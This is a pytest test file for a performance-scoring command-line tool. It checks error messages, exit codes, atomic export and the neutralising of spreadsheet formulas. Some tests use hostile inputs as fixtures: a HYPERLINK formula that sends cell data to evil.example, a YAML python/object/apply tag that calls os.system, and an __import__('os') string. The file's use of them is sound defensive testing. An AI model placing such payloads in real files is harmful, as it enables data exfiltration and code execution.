"""The command line: user errors print ``perfkit: error: ...`` (or the list of problems) and
exit with code 2, never a traceback; ``perfkit evaluate`` writes results.xlsx, Parquet and
a manifest atomically, with spreadsheet formulas neutralised."""
from __future__ import annotations

import hashlib
import json
import subprocess
import sys

import openpyxl
import pandas as pd
import pytest

from perfkit import evaluate, load_round, load_scheme
from perfkit.io.export import write_evaluation


def _assert_clean_failure(res, *fragments: str) -> None:
    """Exit code 2, no traceback, and one ``perfkit: error:`` line holding every fragment."""
    assert res.code == 2, res.err
    assert "Traceback" not in res.err
    lines = res.err.strip().splitlines()
    assert len(lines) == 1, res.err
    assert lines[0].startswith("perfkit: error: ")
    for f in fragments:
        assert f in lines[0]


def _set(table: str, row: int, col: int, value: str):
    def edit(tables):
        tables[table][row - 1][col] = value
    return edit


# (edit of the valid round, table file, row, column, message fragment)
DATA_CASES = {
    "missing-column": (lambda t: t["values"].__setitem__(0, ["unitid", "indicator_id", "value"]),
                       "values.csv", None, None, "did you mean 'unitid'?"),
    "unknown-unit": (_set("values", 3, 0, "D0l"), "values.csv", 3, "unit_id", "unknown unit 'D0l'"),
    "unknown-indicator": (_set("values", 4, 1, "grwoth"), "values.csv", 4, "indicator_id",
                          "did you mean 'growth'?"),
    "duplicate-row": (lambda t: t["values"].append(["D01", "growth", "9"]), "values.csv", 8, "indicator_id",
                      "first seen at row 2"),
    "non-numeric": (_set("values", 3, 2, "九十五"), "values.csv", 3, "value", "'九十五' is not a number"),
    "out-of-range": (_set("values", 5, 2, "120"), "values.csv", 5, "value", "declared range [0, 100]"),
    "no-category": (_set("units", 3, 3, ""), "units.csv", 3, "category", "has no category"),
    "unknown-category": (_set("units", 4, 3, "bureaux"), "units.csv", 4, "category", "did you mean 'bureau'?"),
    "negative-penalty": (_set("adjustments", 3, 3, "-1"), "adjustments.csv", 3, "points", "must be positive"),
    "unknown-veto": (_set("adjustments", 4, 2, "acident"), "adjustments.csv", 4, "item",
                     "did you mean 'accident'?"),
    "survey-scale": (_set("survey", 4, 3, "7"), "survey.csv", 4, "q2", "outside the scale [1, 5]"),
    "respondent-group": (_set("survey", 6, 1, "resident"), "survey.csv", 6, "respondent_group",
                         "did you mean 'residents'?"),
    "special-over-100": (_set("special_results", 3, 2, "105"), "special_results.csv", 3, "score",
                         "outside 0-100"),
}


@pytest.mark.parametrize("case", list(DATA_CASES))
def test_validate_reports_bad_data_with_file_row_column_and_exit_2(run_cli, write_round, round_tables,
                                                                  scheme_path, case):
    edit, file, row, column, fragment = DATA_CASES[case]
    edit(round_tables)
    folder = write_round(round_tables)
    res = run_cli("validate", scheme_path, folder)
    assert res.code == 2
    assert "Traceback" not in res.out + res.err
    errors = [line for line in res.out.splitlines() if line.startswith("error: ")]
    assert len(errors) == 1, res.out
    where = f"error: {folder / file}: " + (f"row {row}: column {column}: " if row else "")
    assert errors[0].startswith(where), errors[0]
    assert fragment in errors[0]
    assert "1 error(s)" in res.out


@pytest.mark.parametrize("case", ["unknown-unit", "non-numeric", "special-over-100"])
def test_evaluate_refuses_bad_data_with_one_line_and_exit_2(run_cli, write_round, round_tables, scheme_path,
                                                            tmp_path, case):
    edit, file, row, column, fragment = DATA_CASES[case]
    edit(round_tables)
    folder = write_round(round_tables)
    out = tmp_path / "out"
    res = run_cli("evaluate", scheme_path, folder, "--out", out)
    _assert_clean_failure(res, f"{folder / file}: row {row}: column {column}: ", fragment)
    assert not out.exists()


def test_validate_lists_all_problems_of_a_file_and_exits_2(run_cli, write_round, round_tables, scheme_path):
    values = round_tables["values"]
    values[1][2] = "abc"  # row 2
    values[2][1] = "hotlin"  # row 3
    values[3][2] = "150"  # row 4
    values[5][0] = "X99"  # row 6
    folder = write_round(round_tables)
    res = run_cli("validate", scheme_path, folder)
    assert res.code == 2
    assert "Traceback" not in res.out + res.err
    f = folder / "values.csv"
    for where in (f"{f}: row 2: column value: 'abc' is not a number",
                  f"{f}: row 3: column indicator_id: unknown indicator 'hotlin' (did you mean 'hotline'?)",
                  f"{f}: row 4: column value: value 150 is outside the declared range",
                  f"{f}: row 6: column unit_id: unknown unit 'X99'"):
        assert where in res.out
    assert "4 error(s)" in res.out


def test_validate_on_valid_data_exits_0(run_cli, scheme_path, round_dir):
    res = run_cli("validate", scheme_path, round_dir)
    assert res.code == 0, res.out + res.err
    assert "0 error(s), 0 warning(s)" in res.out
    assert res.err == ""


def test_empty_file_exits_2_naming_it(run_cli, scheme_path, round_dir):
    (round_dir / "values.csv").write_text("", encoding="utf-8")
    res = run_cli("validate", scheme_path, round_dir)
    _assert_clean_failure(res, str(round_dir / "values.csv"))


def test_header_only_values_file_is_listed_as_a_validation_error(run_cli, scheme_path, round_dir):
    (round_dir / "values.csv").write_text("unit_id,indicator_id,value\n", encoding="utf-8")
    res = run_cli("validate", scheme_path, round_dir)
    assert res.code == 2
    assert "Traceback" not in res.err
    assert f"error: {round_dir / 'values.csv'}" in res.out
    assert "no rows" in res.out


def test_missing_round_folder_exits_2(run_cli, scheme_path, tmp_path):
    res = run_cli("validate", scheme_path, tmp_path / "nowhere")
    _assert_clean_failure(res, str(tmp_path / "nowhere"), "round data not found")


def test_corrupt_xlsx_workbook_exits_2(run_cli, scheme_path, tmp_path):
    book = tmp_path / "round.xlsx"
    book.write_bytes(b"this is not a workbook")
    res = run_cli("validate", scheme_path, book)
    _assert_clean_failure(res, str(book))


# ----------------------------------------------------------------- scheme errors
def test_misspelt_scheme_key_exits_2_with_path_and_suggestion(run_cli, write_scheme, scheme_dict, round_dir):
    work = scheme_dict["structure"]["children"][0]
    work["agregate"] = work.pop("aggregate")
    path = write_scheme(scheme_dict)
    res = run_cli("validate", path, round_dir)
    _assert_clean_failure(res, f"{path}: structure.children[0](work).agregate: ", "did you mean 'aggregate'?")


def test_invalid_yaml_exits_2_with_line_number(run_cli, write_scheme, round_dir):
    path = write_scheme(text="id: tiny\nlabel: {zh: 小, en: tiny\nparadigm: points\n")
    res = run_cli("evaluate", path, round_dir, "--out", path.parent / "out")
    _assert_clean_failure(res, str(path), "line 3")


def test_python_tag_in_scheme_exits_2_and_runs_nothing(run_cli, write_scheme, round_dir, tmp_path):
    marker = tmp_path / "hacked"
    path = write_scheme(text=f'id: !!python/object/apply:os.system ["touch {marker}"]\n')
    res = run_cli("validate", path, round_dir)
    _assert_clean_failure(res, str(path))
    assert not marker.exists()


def test_text_rule_parameter_exits_2_without_traceback(run_cli, write_scheme, scheme_dict, round_dir, tmp_path):
    scheme_dict["structure"]["children"][0]["children"][0]["rule"]["cap"] = "__import__('os')"
    res = run_cli("evaluate", write_scheme(scheme_dict), round_dir, "--out", tmp_path / "out")
    _assert_clean_failure(res, "rule.cap")


# ----------------------------------------------------------------- outputs
def test_evaluate_writes_results_parquet_and_manifest(run_cli, scheme_path, round_dir, tmp_path):
    out = tmp_path / "out"
    res = run_cli("evaluate", scheme_path, round_dir, "--out", out)
    assert res.code == 0, res.err
    assert "Traceback" not in res.err
    assert (out / "results.xlsx").is_file()
    assert openpyxl.load_workbook(out / "results.xlsx", read_only=True).sheetnames[0] == "results"
    results = pd.read_parquet(out / "parquet" / "results.parquet")
    assert sorted(results["unit_id"]) == ["B01", "D01", "D02"]
    assert {"raw", "scores", "nodes", "points", "results"} <= {p.stem for p in (out / "parquet").glob("*.parquet")}
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    inputs = {item["path"]: item["sha256"] for item in manifest["inputs"]}
    for name in ("units", "values", "survey", "special_results", "adjustments"):
        f = round_dir / f"{name}.csv"
        assert inputs[str(f)] == hashlib.sha256(f.read_bytes()).hexdigest()
    assert manifest["scheme"]["sha256"] == load_scheme(scheme_path).hash
    versions = manifest["versions"]
    for pkg in ("python", "perfkit", "numpy", "pandas", "pyarrow", "openpyxl"):
        assert versions[pkg] not in ("", "not installed"), pkg


def test_exported_formula_text_is_neutralised_in_results_xlsx(run_cli, write_round, round_tables, scheme_path,
                                                               tmp_path):
    evil = '=HYPERLINK("http://evil.example/?q="&A1,"点击领奖")'
    round_tables["units"][1][1] = evil  # D01's Chinese name
    round_tables["adjustments"][1][4] = "=1+1"  # D01's bonus reason
    out = tmp_path / "out"
    res = run_cli("evaluate", scheme_path, write_round(round_tables), "--out", out)
    assert res.code == 0, res.err
    wb = openpyxl.load_workbook(out / "results.xlsx")
    formulas = [(ws.title, c.coordinate, c.value) for ws in wb.worksheets for row in ws.iter_rows()
                for c in row if c.data_type == "f"]
    assert formulas == []
    texts = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert "'" + evil in texts
    assert "'=1+1" in texts
    assert evil not in texts


def test_evaluate_leaves_no_temporary_files(run_cli, scheme_path, round_dir, tmp_path):
    out = tmp_path / "out"
    for _ in range(2):  # also when overwriting an earlier run
        assert run_cli("evaluate", scheme_path, round_dir, "--out", out).code == 0
    assert list(out.rglob("*.tmp")) == []
    assert not [p for p in out.rglob("*") if p.name.startswith(".")]


def test_failed_write_keeps_previous_results_and_leaves_no_temporary_file(scheme_path, round_dir, tmp_path,
                                                                          monkeypatch):
    import perfkit.io.export as export

    ev = evaluate(load_scheme(scheme_path), load_round(round_dir))
    out = tmp_path / "out"
    write_evaluation(ev, out)
    before = (out / "results.xlsx").read_bytes()

    real_cell_frame, calls = export._cell_frame, []

    def disk_full_on_second_sheet(df):
        calls.append(1)
        if len(calls) == 2:
            raise OSError(28, "No space left on device")
        return real_cell_frame(df)

    monkeypatch.setattr(export, "_cell_frame", disk_full_on_second_sheet)
    with pytest.raises(OSError):
        write_evaluation(ev, out)
    assert (out / "results.xlsx").read_bytes() == before
    assert list(out.rglob("*.tmp")) == []


def test_out_that_is_a_file_exits_2(run_cli, scheme_path, round_dir):
    res = run_cli("evaluate", scheme_path, round_dir, "--out", scheme_path)
    _assert_clean_failure(res, str(scheme_path))


def test_console_entry_point_exits_2_without_traceback(write_round, round_tables, scheme_path):
    round_tables["values"][2][2] = "九十五"
    folder = write_round(round_tables)
    proc = subprocess.run([sys.executable, "-m", "perfkit", "evaluate", str(scheme_path), str(folder),
                           "--out", str(folder.parent / "out")], capture_output=True, text=True,
                          encoding="utf-8", timeout=60)
    assert proc.returncode == 2
    assert "Traceback" not in proc.stderr
    assert proc.stderr.startswith(f"perfkit: error: {folder / 'values.csv'}: row 3: column value: ")
    assert proc.stderr.count("\n") == 1


# ----------------------------------------------------------------- messages (issue 10)
def test_out_naming_an_existing_file_says_it_is_a_file_not_a_folder(run_cli, scheme_path, round_dir, tmp_path):
    out = tmp_path / "results.xlsx"
    out.write_bytes(b"an earlier export")
    res = run_cli("evaluate", scheme_path, round_dir, "--out", out)
    _assert_clean_failure(res, str(out), "--out names an existing file, not a folder", "give a folder")
    assert out.read_bytes() == b"an earlier export"


def test_round_typo_says_no_row_belongs_to_it_and_which_rounds_there_are(run_cli, write_round, round_tables,
                                                                         scheme_path):
    for name in ("values", "survey"):
        round_tables[name][0].append("round")
        for row in round_tables[name][1:]:
            row.append("2025")
    res = run_cli("validate", scheme_path, write_round(round_tables), "--round", "2052")
    _assert_clean_failure(res, "no row belongs to round 2052", "the data hold round(s) 2025", "--round")


def test_evaluate_prints_a_summary_of_the_warnings_that_cost_points(run_cli, write_round, round_tables,
                                                                    scheme_path, tmp_path):
    round_tables["values"][2][2] = "NaN"  # row 3
    round_tables["values"] = [r for r in round_tables["values"] if r[:2] != ["B01", "hotline"]]
    folder = write_round(round_tables)
    res = run_cli("evaluate", scheme_path, folder, "--out", tmp_path / "out")
    assert res.code == 0, res.err
    assert "warning: 2 warning(s) change a unit's score:" in res.out
    assert f"{folder / 'values.csv'}: row 3: column value" in res.out
    assert "no value for unit 'B01', indicator 'hotline'" in res.out
    assert "perfkit validate --warnings" in res.out
    assert "DataWarning" not in res.err


def test_validate_without_warnings_still_summarises_those_that_cost_points(run_cli, write_round, round_tables,
                                                                            scheme_path):
    round_tables["values"][2][2] = ""
    res = run_cli("validate", scheme_path, write_round(round_tables))
    assert res.code == 0
    assert "warning: 1 warning(s) change a unit's score:" in res.out and "empty value" in res.out


def test_validate_piped_into_head_stops_quietly(write_round, round_tables, scheme_path):
    round_tables["values"] += [["X%05d" % i, "growth", "1"] for i in range(3000)]  # 3,000 unknown units
    folder = write_round(round_tables)
    proc = subprocess.Popen([sys.executable, "-m", "perfkit", "validate", str(scheme_path), str(folder)],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    first = [proc.stdout.readline() for _ in range(2)]
    proc.stdout.close()  # what `| head -2` does
    err = proc.stderr.read().decode()
    code = proc.wait(timeout=60)
    assert all(line.startswith(b"error: ") for line in first)
    assert "Broken pipe" not in err and "Traceback" not in err, err
    assert code not in (1, 2)
